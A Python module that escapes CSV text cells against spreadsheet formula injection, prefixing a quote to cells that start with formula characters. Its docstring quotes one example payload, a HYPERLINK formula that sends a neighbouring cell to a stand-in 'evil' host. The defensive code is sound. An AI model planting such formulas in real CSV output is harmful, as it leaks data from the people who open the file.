"""Spreadsheet-safe CSV text cells: every CSV TermLinker writes passes its text cells through :func:`text_cell`.

Terms, comments and names come from outside (patients, staff, vocabulary files). A cell that
begins with ``=``, ``+``, ``-`` or ``@`` is run as a formula when the CSV is opened in Excel or
LibreOffice (CWE-1236, "CSV injection"): ``=HYPERLINK("http://evil/?"&A2, "click")`` would send
the row next to it off the machine. Tab and carriage return are on the list too, because some
importers strip them and then see the formula behind them.

We follow OWASP's advice: such a text cell gets a single quote in front (``'=1+1``), which
spreadsheets show as the literal text and which a reader of the CSV can strip again. Only the
CSV outputs do this (``link --format csv``, the project's CSV and OMOP exports); JSON, JSONL and
the FHIR ConceptMap carry the raw text, since no spreadsheet evaluates them. Numbers we format
ourselves (counts, scores such as ``-0.1234``, OMOP concept ids) are written as they are and stay
numbers: they never pass through :func:`text_cell`.
"""

from __future__ import annotations

# Characters that start a formula, as listed by OWASP's "CSV Injection" page.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str | None) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text; None is an empty cell."""
    if not value:
        return ""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
